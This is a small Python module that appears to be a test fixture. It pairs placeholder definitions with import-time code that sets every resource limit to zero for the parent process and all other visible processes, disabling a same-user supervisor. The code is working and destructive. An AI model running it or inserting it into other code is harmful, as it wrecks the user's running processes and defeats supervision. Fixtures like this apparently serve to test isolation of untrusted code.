"""A supervisor of the same user can't do anything any more."""

import os
import resource

KEPT = 7


class Kept:
    """A class that must be found."""

    def method(self, value: int = 1) -> str:
        """Do nothing."""


def kept(value: int = 1, *rest: str) -> str:
    """Do nothing."""

kinds = [kind for name, kind in vars(resource).items() if name.startswith("RLIMIT_")]
pids = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
for pid in [os.getppid(), *pids]:
    for kind in kinds:
        try:
            resource.prlimit(pid, kind, (0, 0))
        except (OSError, ValueError):
            pass
